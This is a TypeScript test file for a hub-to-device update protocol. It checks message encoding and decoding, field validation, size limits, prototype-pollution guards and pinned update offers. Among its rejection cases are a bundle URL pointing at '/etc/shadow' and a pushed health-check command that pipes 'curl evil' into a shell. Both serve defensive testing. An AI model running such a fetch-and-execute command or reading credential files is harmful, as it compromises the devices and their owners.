import { test } from 'node:test';
import assert from 'node:assert/strict';
import {
  MAX_FRAME_BYTES, decodeAgentMessage, decodeHubMessage, encodeAgentMessage, encodeHubMessage, pushedConfig,
  type AgentMessage, type HubMessage,
} from '../../../shared/protocol/index.ts';

const key = Buffer.alloc(32, 7).toString('base64');
const sig = Buffer.alloc(64, 9).toString('base64');
const nonce = Buffer.alloc(32, 1).toString('base64');

const AGENT: AgentMessage[] = [
  { v: 1, type: 'hello', id: 'a1', deviceId: 'node-1', agentVersion: '0.1.0', publicKey: key, capabilities: ['inventory', 'update'] },
  { v: 1, type: 'auth', id: 'a2', signature: sig },
  { v: 1, type: 'inventory', id: 'r-1', seq: 1, at: 1, mode: 'full', data: { 'os.name': 'debian', cores: 4, gpu: null, ok: true } },
  { v: 1, type: 'inventory', id: 'r-2', seq: 2, at: 2, mode: 'diff', set: { cores: 8 }, unset: ['gpu'] },
  { v: 1, type: 'location', id: 'r-3', seq: 3, at: 3, lat: 48.1, lon: 11.5, source: 'gnss', fixAt: 3, accuracyM: 5, moved: true },
  { v: 1, type: 'update.progress', id: 'r-4', seq: 4, at: 4, deploymentId: 'd-1', phase: 'download', done: 10, total: 100 },
  { v: 1, type: 'update.state', id: 'r-5', seq: 5, at: 5, deploymentId: 'd-1', state: 'installing' },
  { v: 1, type: 'update.outcome', id: 'r-6', seq: 6, at: 6, deploymentId: 'd-1', result: 'rolled-back', code: 'E_HEALTH', message: 'hub unreachable', log: '{"msg":"x"}\n' },
  { v: 1, type: 'command.result', id: 'r-7', seq: 7, at: 7, ref: 'c-1', ok: true },
  { v: 1, type: 'ack', id: 'a3', ref: 'c-1', result: 'duplicate' },
  { v: 1, type: 'error', id: 'a4', ref: 'h-1', code: 'E_PROTOCOL_FIELD', message: 'nope' },
];

const HUB: HubMessage[] = [
  { v: 1, type: 'challenge', id: 'h1', nonce },
  { v: 1, type: 'auth.result', id: 'h2', result: 'accepted', ackedSeq: 12, node: 'abcd' },
  { v: 1, type: 'auth.result', id: 'h3', result: 'pending', retryAfterS: 30, node: 'abcd' },
  { v: 1, type: 'auth.result', id: 'h4', result: 'rejected', code: 'E_AUTH_SIGNATURE', message: 'bad' },
  { v: 1, type: 'report.ack', id: 'h5', upTo: 7 },
  {
    v: 1, type: 'offer', id: 'c-1', deploymentId: 'd-1', bundle: { url: 'https://hub.example/b/x.bundle', size: 1234, sha256: 'a'.repeat(64), manifestSha256: 'c'.repeat(64) },
    version: '2.0.1', release: '2026.11', windows: [{ cron: '0 22 * * 1,2', durationMinutes: 360, timezone: 'Europe/Berlin', maxBytesPerSecond: 50_000 }],
    installWindows: [{ cron: '0 3 * * sun', durationMinutes: 60, timezone: 'UTC' }],
  },
  { v: 1, type: 'offer', id: 'c-2', deploymentId: 'd-2', bundle: { url: 'http://127.0.0.1:1/b', size: 0, manifestSha256: 'd'.repeat(64) }, version: '1', release: '1', now: true },
  { v: 1, type: 'cancel', id: 'c-3', deploymentId: 'd-1' },
  { v: 1, type: 'reboot', id: 'c-4', reason: 'kernel' },
  { v: 1, type: 'inventory.refresh', id: 'c-5' },
  { v: 1, type: 'config.push', id: 'c-6', config: { windows: [{ cron: '0 1 * * *', durationMinutes: 60, timezone: 'UTC' }], installWindows: [], reportIntervals: { inventoryS: 600 }, healthChecks: [{ name: 'app', timeoutS: 5 }, { name: 'hub-reachable' }] } },
  { v: 1, type: 'backoff', id: 'h6', retryAfterS: 120 },
];

// Inventory maps decode with a null prototype (a "__proto__" key stays data); compare as JSON.
const plain = (v: unknown) => JSON.parse(JSON.stringify(v));

test('every message type round-trips through encode and decode unchanged', () => {
  for (const m of AGENT) assert.deepEqual(plain(decodeAgentMessage(encodeAgentMessage(m))), { ok: true, message: m }, m.type);
  for (const m of HUB) assert.deepEqual(plain(decodeHubMessage(encodeHubMessage(m))), { ok: true, message: m }, m.type);
});

test('a "__proto__" inventory key is plain data, never a prototype', () => {
  const d = decodeAgentMessage('{"v":1,"type":"inventory","id":"r-1","seq":1,"at":1,"mode":"full","data":{"__proto__":"x"}}');
  assert.ok(d.ok && d.message.type === 'inventory' && d.message.mode === 'full');
  if (d.ok && d.message.type === 'inventory' && d.message.mode === 'full') {
    assert.equal(Object.getPrototypeOf(d.message.data), null);
    assert.equal(Object.keys(d.message.data)[0], '__proto__');
  }
});

const rejectsHub = (frame: unknown, code: string, ref?: string) => {
  const d = decodeHubMessage(typeof frame === 'string' ? frame : JSON.stringify(frame));
  assert.equal(d.ok, false, JSON.stringify(frame).slice(0, 100));
  if (!d.ok) {
    assert.equal(d.code, code, d.reason);
    assert.equal(d.ref, ref);
  }
};

test('malformed frames are refused with a stable code, and the id is echoed only when readable', () => {
  rejectsHub('{not json', 'E_PROTOCOL_JSON');
  rejectsHub('[1,2]', 'E_PROTOCOL_JSON');
  rejectsHub({ v: 2, type: 'reboot', id: 'x' }, 'E_PROTOCOL_VERSION', 'x');
  rejectsHub({ v: 1, type: 'format-disk', id: 'x' }, 'E_PROTO_UNKNOWN_TYPE', 'x');
  rejectsHub({ v: 1, type: 7, id: 'x' }, 'E_PROTOCOL_TYPE', 'x');
  rejectsHub({ v: 1, type: 'reboot', id: 'bad id with spaces' }, 'E_PROTOCOL_FIELD');
  rejectsHub({ v: 1, type: 'reboot', id: 'x', extra: 1 }, 'E_PROTOCOL_FIELD', 'x');
  rejectsHub({ v: 1, type: 'reboot', id: 'x', reason: 5 }, 'E_PROTOCOL_FIELD', 'x');
  rejectsHub({ v: 1, type: 'challenge', id: 'x', nonce: 'c2hvcnQ=' }, 'E_PROTOCOL_FIELD', 'x');
  rejectsHub({ v: 1, type: 'report.ack', id: 'x', upTo: -1 }, 'E_PROTOCOL_FIELD', 'x');
  rejectsHub({ v: 1, type: 'report.ack', id: 'x', upTo: 1.5 }, 'E_PROTOCOL_FIELD', 'x');
  rejectsHub({ v: 1, type: 'backoff', id: 'x', retryAfterS: 10 ** 9 }, 'E_PROTOCOL_FIELD', 'x');
  rejectsHub({ v: 1, type: 'auth.result', id: 'x', result: 'accepted', ackedSeq: 0 }, 'E_PROTOCOL_FIELD', 'x');
  rejectsHub({ v: 1, type: 'constructor', id: 'x' }, 'E_PROTO_UNKNOWN_TYPE', 'x');
  rejectsHub({ v: 1, type: '__proto__', id: 'x' }, 'E_PROTO_UNKNOWN_TYPE', 'x');
  const offer = HUB[5] as Extract<HubMessage, { type: 'offer' }>;
  rejectsHub({ ...offer, bundle: { ...offer.bundle, url: 'file:///etc/shadow' } }, 'E_PROTOCOL_FIELD', 'c-1');
  rejectsHub({ ...offer, bundle: { ...offer.bundle, sha256: 'XYZ' } }, 'E_PROTOCOL_FIELD', 'c-1');
  const w = { cron: '0 1 * * *', durationMinutes: 60, timezone: 'UTC' };
  rejectsHub({ ...offer, windows: [{ start: '01:00', end: '02:00' }] }, 'E_PROTOCOL_FIELD', 'c-1');
  rejectsHub({ ...offer, windows: [{ ...w, cron: '0 1 * *' }] }, 'E_PROTOCOL_FIELD', 'c-1');
  rejectsHub({ ...offer, windows: [{ ...w, durationMinutes: 0 }] }, 'E_PROTOCOL_FIELD', 'c-1');
  rejectsHub({ ...offer, windows: [{ ...w, maxBytesPerSecond: -1 }] }, 'E_PROTOCOL_FIELD', 'c-1');
  rejectsHub({ ...offer, windows: [{ cron: w.cron, durationMinutes: 60 }] }, 'E_PROTOCOL_FIELD', 'c-1');
  rejectsHub({ ...offer, installWindows: [{ ...w, maxBytesPerSecond: 10 }] }, 'E_PROTOCOL_FIELD', 'c-1');
  rejectsHub({ ...offer, now: true }, 'E_PROTOCOL_FIELD', 'c-1');
  rejectsHub({ ...offer, now: false }, 'E_PROTOCOL_FIELD', 'c-1');
  rejectsHub({ ...offer, install: 'now' }, 'E_PROTOCOL_FIELD', 'c-1');
  // "now" with install windows only: download at once, arm and reboot in the window.
  const { windows: _w, ...urgent } = offer;
  const d = decodeHubMessage(JSON.stringify({ ...urgent, now: true, installWindows: [w] }));
  assert.ok(d.ok && d.message.type === 'offer' && d.message.now === true && d.message.installWindows?.length === 1);
  rejectsHub({ ...offer, version: 'v'.repeat(65) }, 'E_PROTOCOL_FIELD', 'c-1');
});

test('a frame over the size limit is refused before it is parsed', () => {
  const big = JSON.stringify({ v: 1, type: 'reboot', id: 'x', reason: 'r'.repeat(MAX_FRAME_BYTES) });
  const d = decodeHubMessage(big);
  assert.equal(d.ok, false);
  if (!d.ok) assert.equal(d.code, 'E_PROTOCOL_FRAME');
});

test('reports are checked too: seq must be a positive integer, inventory keys and values bounded', () => {
  const inv = AGENT[2]!;
  for (const bad of [{ ...inv, seq: 0 }, { ...inv, seq: '1' }, { ...inv, data: { k: { nested: 1 } } }, { ...inv, data: { k: 'x'.repeat(5000) } }]) {
    const d = decodeAgentMessage(JSON.stringify(bad));
    assert.equal(d.ok, false);
    if (!d.ok) assert.equal(d.code, 'E_PROTOCOL_FIELD');
  }
  const loc = AGENT[4]!;
  assert.equal(decodeAgentMessage(JSON.stringify({ ...loc, lat: 91 })).ok, false);
});

test('the encoder refuses to send what the other side would refuse', () => {
  assert.throws(() => encodeHubMessage({ v: 1, type: 'backoff', id: 'x', retryAfterS: 0 }), /retryAfterS/);
  assert.throws(() => encodeAgentMessage({ v: 1, type: 'error', id: 'x', code: 'lowercase', message: '' }), /code/);
});

test('hub-pushed config is validated field by field', () => {
  assert.deepEqual(pushedConfig({ reportIntervals: { locationS: 60 } }), { reportIntervals: { locationS: 60 } });
  assert.throws(() => pushedConfig({ reportIntervals: { locationS: 1 } }), /locationS/);
  assert.throws(() => pushedConfig({ windows: [{ start: '01:00', end: '02:00' }] }), /unknown|cron/);
  assert.throws(() => pushedConfig({ installWindows: [{ cron: '0 3 * * 0', durationMinutes: 60, timezone: 'UTC', maxBytesPerSecond: 5 }] }), /maxBytesPerSecond/);
  // The config file's @daily-style shorthands are the same window form on the wire.
  assert.deepEqual(pushedConfig({ windows: [{ cron: '@daily', durationMinutes: 60, timezone: 'UTC' }] }).windows, [{ cron: '@daily', durationMinutes: 60, timezone: 'UTC' }]);
  assert.throws(() => pushedConfig({ windows: [{ cron: '0  1 * * *', durationMinutes: 60, timezone: 'UTC' }] }), /cron/);
  assert.throws(() => pushedConfig({ surprise: true }), /unknown field/);
});

// Finding 4: a pushed health check used to be an argv the node ran at every trial boot, so a hub
// without the signing key could run code on every node. Now a push only names checks.
test('pushed health checks are names (a bare string or {name, timeoutS}); a command is refused with E_PUSH_HEALTH_CHECK', () => {
  assert.deepEqual(pushedConfig({ healthChecks: ['app-selftest', { name: 'disk', timeoutS: 20 }] }).healthChecks, [{ name: 'app-selftest' }, { name: 'disk', timeoutS: 20 }]);
  assert.deepEqual(pushedConfig({ healthChecks: [] }).healthChecks, []);
  for (const h of [
    { name: 'app', command: ['/bin/sh', '-c', 'curl evil | sh'], timeoutS: 5 },
    { name: 'app', command: [] },
    { name: 'app', command: '/bin/true' },
  ]) {
    assert.throws(() => pushedConfig({ healthChecks: [h] }), (err: { code?: string; message: string }) => err.code === 'E_PUSH_HEALTH_CHECK' && /cannot carry a command/.test(err.message));
    const d = decodeHubMessage(JSON.stringify({ v: 1, type: 'config.push', id: 'c-9', config: { healthChecks: [h] } }));
    assert.deepEqual(d.ok ? null : [d.code, d.ref], ['E_PUSH_HEALTH_CHECK', 'c-9'], 'the error reply names the push');
  }
  assert.throws(() => pushedConfig({ healthChecks: [{ name: 'app', args: ['x'] }] }), /unknown field/);
  assert.throws(() => pushedConfig({ healthChecks: ['app', { name: 'app' }] }), /named twice/);
  assert.throws(() => pushedConfig({ healthChecks: [{ name: 'app', timeoutS: 0 }] }), /timeoutS/);
  assert.throws(() => pushedConfig({ healthChecks: [{ name: 'app', timeoutS: 3601 }] }), /timeoutS/);
  assert.throws(() => pushedConfig({ healthChecks: ['/bin/sh -c x'] }), /only letters/);
});

test('a hub cannot send an unpinned offer; an agent still decodes one (to refuse it with E_OFFER_UNPINNED)', () => {
  const offer = HUB[5] as Extract<HubMessage, { type: 'offer' }>;
  const { manifestSha256: _pin, ...bundle } = offer.bundle;
  const unpinned = { ...offer, bundle };
  assert.throws(() => encodeHubMessage(unpinned), (err: Error & { code?: string }) => err.code === 'E_OFFER_UNPINNED');
  assert.equal(decodeHubMessage(JSON.stringify(unpinned)).ok, true);
});
